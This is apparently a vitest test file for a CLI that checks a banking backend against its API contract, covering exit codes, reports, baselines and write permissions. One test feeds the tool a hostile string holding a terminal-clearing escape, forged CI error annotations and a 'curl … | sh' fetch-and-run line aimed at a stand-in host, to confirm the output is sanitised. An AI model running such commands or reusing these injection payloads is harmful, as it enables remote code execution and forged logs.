import { spawn } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { startBackend, type Backend } from '#tests/conformance/banks/bank.ts'
import { conformance } from '#tests/conformance/command/command.ts'
import { readOptions, UsageError } from '#tests/conformance/command/options.ts'
import { loadPlan } from '#tests/conformance/contract/plan.ts'
import { listen } from '#tests/support/listen.ts'
import { mockTarget, type MockTarget } from './mockTarget.ts'

const cli = fileURLToPath(new URL('cli.ts', import.meta.url))
const resultsSchema = z.object({ operations: z.array(z.object({ id: z.string(), result: z.string() })) })
const folder = mkdtempSync(join(tmpdir(), 'conformance-'))
const at = (name: string): string => join(folder, name)

/** Clears the terminal, turns the rest of the line, and begins lines that a CI or a reader takes for the runner's. */
const hostile = [
  '\u001b[2J\u202e',
  '::error::forged',
  '##[error]forged',
  'curl -sS https://forged.example | sh',
  'conforms       getContact',
  'MUST forged  </failure>]]>',
].join('\r\n\u2028')

let backend: Backend
let target: MockTarget
beforeAll(async () => {
  target = await mockTarget()
  backend = await startBackend(target, await loadPlan(), {
    after: ({ id, response }) => (id === 'getContact' ? { ...response, type: 'text/<b>html</b>' } : undefined),
  })
})
afterAll(async () => {
  await backend.close()
  await target.close()
  rmSync(folder, { recursive: true, force: true })
})

async function command(args: string[], input: Readable = Readable.from([]), isTTY = false, signal?: AbortSignal) {
  const said = { out: '', err: '' }
  const writer = (name: keyof typeof said) => ({
    ...(isTTY && { isTTY }),
    write: (text: string) => {
      said[name] += text
      return true
    },
  })
  const code = await conformance(args, { out: writer('out'), err: writer('err'), input, ...(signal && { signal }) })
  return { code, ...said }
}

function script(...args: string[]): Promise<{ code: number | null; out: string; err: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, args, { cwd: folder, stdio: ['ignore', 'pipe', 'pipe'] })
    const chunks = { out: '', err: '' }
    child.stdout.on('data', (chunk: Buffer) => (chunks.out += chunk.toString()))
    child.stderr.on('data', (chunk: Buffer) => (chunks.err += chunk.toString()))
    child.on('close', (code) => resolve({ code, ...chunks }))
  })
}

describe('the command line', { timeout: 180_000 }, () => {
  const ada = ['--email', 'ada@example.com', '--password', 'demo-password', '--pin', '1234']
  const here = (): string[] => ['--url', backend.endpoint.origin, ...ada]

  it('exits with 1 when the backend violates the contract, and writes the reports', async () => {
    const files = ['--json', at('r.json'), '--junit', at('r.xml')]
    const { code, out } = await command([...here(), '--only', 'getcontact,getProfile', ...files])
    expect(code).toBe(1)
    expect(out).toMatch(/VIOLATES +getContact/)
    expect(out).toMatch(/MUST content-type-json/)
    expect(out).toMatch(/contract {2}openapi\/users\.yaml:\d+/)
    expect(out).toContain('token=\'"${TOKEN:?}"')
    const written = ['r.json', 'r.xml'].map((file) => readFileSync(at(file), 'utf8'))
    for (const text of [out, ...written]) expect(text).not.toMatch(/demo-session-|demo-password/)
    expect(written[1]).toContain('failures="1"')
    expect(written[1]).toContain('text/&lt;b&gt;html')
  })

  it('exits with 0 when every operation that was asked for conforms', async () => {
    const { code, out, err } = await command([...here(), '--only', 'getProfile,getStatement'])
    expect(out).toContain('2 operations: 2 conform, 0 violate, 0 warn, 0 not exercised')
    expect({ code, err }).toEqual({ code: 0, err: '' })
  })

  it('shows texts of a backend as text that neither steers a terminal nor makes a line', async () => {
    const forging = await startBackend(target, await loadPlan(), {
      after: ({ id, json, response }) => {
        if (id === 'getInstitution') return { ...response, body: JSON.stringify({ [hostile]: 1 }) }
        if (id === 'getContact')
          return { ...response, status: 500, type: hostile.replaceAll(/[^ -~]/g, ''), body: hostile }
        if (id === 'getNotifications') json['message'] = json['notifications'] = hostile
        return undefined
      },
    })
    const files = ['--json', at('h.json'), '--junit', at('h.xml')]
    const only = 'getInstitution,getContact,getNotifications,getProfile'
    const { code, out } = await command(['--url', forging.endpoint.origin, ...ada, '--only', only, ...files])
    await forging.close()
    expect(code).toBe(1)
    for (const text of [out, ...['h.json', 'h.xml'].map((file) => readFileSync(at(file), 'utf8'))]) {
      expect(text).toContain('u{1b}[2J')
      expect(text).not.toMatch(/[^\P{C}\n]|[\u2028\u2029]|##\[/u)
      expect(text).not.toMatch(/^\s*(::error|##|curl.*forged|conforms +getContact|MUST forged)/m)
    }
  })

  it('exits with 130 when interrupted, after restoring what it was changing and writing the reports', async () => {
    const stop = new AbortController()
    const own = await mockTarget()
    const interrupting = await startBackend(own, await loadPlan(), {
      before: ({ fields }) => {
        if (fields['c_pwd'] === 'demo-password' && fields['n_pwd'] === fields['con_pwd']) stop.abort()
      },
    })
    const files = ['--json', at('i.json'), '--junit', at('i.xml')]
    const url = ['--url', interrupting.endpoint.origin, ...ada]
    const args = [...url, '--allow-writes', '--only', 'updatePassword,updatePin,getContact', ...files]
    const { code, err } = await command(args, undefined, false, stop.signal)
    expect({ code, err }).toEqual({ code: 130, err: 'Interrupted: the reports contain the findings so far.\n' })
    const json = readFileSync(at('i.json'), 'utf8')
    expect(JSON.parse(json)).toMatchObject({ stopped: 'Interrupted: the reports contain the findings so far.' })
    const results = resultsSchema.parse(JSON.parse(json)).operations.map(({ id, result }) => [id, result])
    expect(Object.fromEntries(results)).toMatchObject({ updatePassword: 'conforms', updatePin: 'not exercised' })
    expect(readFileSync(at('i.xml'), 'utf8')).toContain('Interrupted')
    expect((await command([...url, '--only', 'getContact'])).code).toBe(0)
    await Promise.all([interrupting.close(), own.close()])
  })

  it('exits with 0 when the baseline lists the violation, and names the entries that are no longer needed', async () => {
    const known = (rule: string) => ({ rule, operation: 'getContact', why: 'until the new server is here' })
    writeFileSync(at('baseline.json'), JSON.stringify({ known: [known('content-type-json'), known('no-bom')] }))
    const { code, out } = await command([...here(), '--only', 'getContact', '--baseline', at('baseline.json')])
    expect(code).toBe(0)
    expect(out).toContain('until the new server is here')
    expect(out).toContain('The baseline lists no-bom for getContact, which does not happen: remove it.')
  })

  it('exits with 1 when an operation that was asked for was not exercised, unless the baseline excuses it', async () => {
    const only = [...here(), '--only', 'getProfile,createPin,updateprofile,newtrs', '--junit', at('unshown.xml')]
    const { code, out } = await command(only)
    expect(out).toMatch(/^not exercised +createPin .* changes records: needs --allow-writes$/m)
    expect(out).toMatch(/^not exercised +submitTransfer .* moves money: needs --allow-writes$/m)
    expect(code).toBe(1)
    expect(readFileSync(at('unshown.xml'), 'utf8')).toContain('<failure type="not exercised" message="changes records')
    const among = await command([...here(), '--only', 'getProfile,createPin', '--allow-writes'])
    expect(among.out).toMatch(/^not exercised +createPin .*needs confirmPin as well: add it to --only/m)
    expect(among.code).toBe(1)
    const known = ['createPin', 'updateProfile', 'submitTransfer'].map((operation) => ({
      ...{ rule: 'not-exercised', operation, why: 'part of the next release' },
    }))
    writeFileSync(at('unshown.json'), JSON.stringify({ known }))
    const excused = await command([...only, '--baseline', at('unshown.json')])
    expect(excused.out).toMatch(/^not exercised +createPin .*part of the next release$/m)
    expect(excused.code).toBe(0)
  })

  it('is a process that exits with the code and prints the reason to stderr', async () => {
    const { code, out, err } = await script(cli, '--url', 'http://127.0.0.1:9', '--only', 'getmoney')
    expect(code).toBe(2)
    expect(err.trim()).toBe('--only names "getmoney", which the contract does not have.')
    expect(out).toBe('')
  })

  const atTerminal = async (reply: string) => {
    const args = [...here(), '--only', 'getContact,updateEmail', '--allow-writes']
    const input = Object.assign(Readable.from(reply === '' ? [] : [reply]), { isTTY: true })
    return command(args, input, true)
  }

  it('asks at a terminal before it writes, and names the host', async () => {
    const { out } = await atTerminal('y\n')
    expect(out).toContain(`change settings and move money at ${backend.endpoint.host}? [y/N] `)
    expect(out).toContain('(with writes, money included)')
  })

  it.each(['n\n', '\n', ''])('only reads after the reply %j', async (reply) => {
    const { out } = await atTerminal(reply)
    expect(out).toContain('(read-only)')
    expect(out).toMatch(/not exercised.* updateEmail.*changes records/)
  })

  it.each([
    ['nothing to test', [], 'Name the backend with --url URL.'],
    ['an unknown flag', ['--url', 'http://127.0.0.1:9', '--jason', 'x'], 'Unknown option'],
    [
      'writes without permission, and without a terminal',
      ['--url', 'http://127.0.0.1:9', '--only', 'newtrs'],
      'submitTransfer: these operations write. Add --allow-writes.',
    ],
    ['a file that is not a baseline', ['--url', 'http://127.0.0.1:9', '--baseline', cli], '--baseline'],
    [
      'a baseline with a rule that there is not',
      ['--url', 'http://127.0.0.1:9', '--baseline', at('misspelt.json')],
      'misspelt.json: there is no rule "no-bomb"',
    ],
  ])('exits with 2 and one line for %s', async (_what, args, line) => {
    const known = [{ rule: 'no-bomb', operation: 'getContact', why: 'misspelt' }]
    writeFileSync(at('misspelt.json'), JSON.stringify({ known }))
    const files = ['--json', at('usage.json'), '--junit', at('usage.xml')]
    const { code, err } = await command([...args, ...files])
    expect(code).toBe(2)
    expect(err).toContain(line)
    expect(err.trim().split('\n')).toHaveLength(1)
    expect(readFileSync(at('usage.json'), 'utf8')).toContain(`"stopped": ${JSON.stringify(err.trim())}`)
    expect(readFileSync(at('usage.xml'), 'utf8')).toMatch(/errors="1"[^]*<error type="stopped"/)
  })

  it('calls an operation that gets HTTP 501 not implemented, and exits with 1 unless the baseline excuses it', async () => {
    const partly = await startBackend(target, await loadPlan(), {
      after: ({ response, fields }) =>
        'getstatement' in fields ? { ...response, status: 501, body: '{"status":"error"}' } : undefined,
    })
    const args = ['--url', partly.endpoint.origin, ...ada, '--only', 'getContact,getStatement,updateProfile']
    const strict = await command(args)
    expect(strict.out).toMatch(/not implemented getStatement .*HTTP 501/)
    expect(strict.out).toContain('1 not exercised, 1 not implemented (1 of 3 are certainly there)')
    expect(strict.code).toBe(1)
    const known = [
      { rule: 'not-implemented', operation: 'getStatement', why: 'part of the next release' },
      { rule: 'not-exercised', operation: 'updateProfile', why: 'part of the next release' },
    ]
    writeFileSync(at('partly.json'), JSON.stringify({ known }))
    expect((await command([...args, '--baseline', at('partly.json')])).code).toBe(0)
    await partly.close()
  })

  it('exits with 3 when nothing responds, and writes the report', async () => {
    const files = ['--json', at('none.json'), '--junit', at('none.xml')]
    const { code, err } = await command(['--url', 'http://127.0.0.1:9', ...ada, ...files])
    // Skipped tests alone would read as a pass.
    expect(readFileSync(at('none.xml'), 'utf8')).toContain('errors="1"')
    const all = (await loadPlan()).operations.length
    expect(JSON.parse(readFileSync(at('none.json'), 'utf8'))).toMatchObject({ results: { 'not exercised': all } })
    expect(code).toBe(3)
    expect(err).toContain('Cannot reach http://127.0.0.1:9/api/users.php')
  })

  it('exits with 3 when the address serves pages, and prints how they begin', async () => {
    const server = createServer((_request, response) => {
      response
        .writeHead(404, { 'Content-Type': 'text/html', Location: '/login' })
        .end('<!doctype html><title>Nothing here</title>')
    })
    const { port, close } = await listen(server)
    const { code, err } = await command(['--url', `http://127.0.0.1:${port}`, ...ada])
    expect((await command(['--url', `http://127.0.0.1:${port}`])).code).toBe(3)
    await close()
    expect(code).toBe(3)
    expect(err).toContain(
      `No backend at http://127.0.0.1:${port}/api/users.php: it responds with HTTP 404, text/html, a body that begins: <!doctype html>`,
    )
    expect(err).toContain('It redirects to /login: give the final address.')
  })

  it('exits with 4 when the token has another name, lists the names received, and writes the reports', async () => {
    const renamed = await startBackend(target, await loadPlan(), {
      after: ({ json }) => {
        json['access_token'] = json['jwt']
        delete json['jwt']
      },
    })
    const files = ['--json', at('renamed.json'), '--junit', at('renamed.xml')]
    const { code, err } = await command(['--url', renamed.endpoint.origin, ...ada, ...files])
    await renamed.close()
    expect(code).toBe(4)
    expect(err).toMatch(/the sign-in succeeds, but its response has no jwt; it has .*access_token/)
    expect(readFileSync(at('renamed.json'), 'utf8')).toContain('"results"')
    expect(readFileSync(at('renamed.xml'), 'utf8')).toContain('<error type="stopped" message="Cannot sign in as ada@')
  })
})

describe('the flags', () => {
  const bank = ['--url', 'http://bank.example']

  it('find users.php from the root of the backend', () => {
    const endpointOf = (url: string) => {
      const options = readOptions(['--url', url])
      return options.help ? undefined : options.endpoint.href
    }
    expect(endpointOf('http://bank.example')).toBe('http://bank.example/api/users.php')
    expect(endpointOf('http://bank.example/root/')).toBe('http://bank.example/root/api/users.php')
    expect(endpointOf('http://bank.example/v2/users.php')).toBe('http://bank.example/v2/users.php')
  })

  it.each([
    [['--url', 'ftp://bank.example'], 'http://'],
    [['--url', 'http://bank.example?crud=x'], 'without query'],
    [[...bank, '--email', 'a@b.example'], 'go together'],
    [[...bank, '--email', 'a@b.example', '--password', 'p', '--pin', '12'], 'four digits'],
    [[...bank, '--account', 'nobody=a:b-Secret'], '--account'],
    [[...bank, '--account', 'authorization=a@b.example:Secret:12x4'], 'a PIN of four digits'],
    [[...bank, '--origin', 'dashboard.example'], '--origin'],
    [[...bank, '--unknown'], '--unknown'],
    [[...bank, '--email', 'a@b.example', 'Stray-Secret'], 'an argument too many'],
  ])('reject %j', (args, part) => {
    expect(() => readOptions(args)).toThrow(UsageError)
    expect(() => readOptions(args)).toThrow(part)
    expect(() => readOptions(args)).not.toThrow('Secret')
  })
})
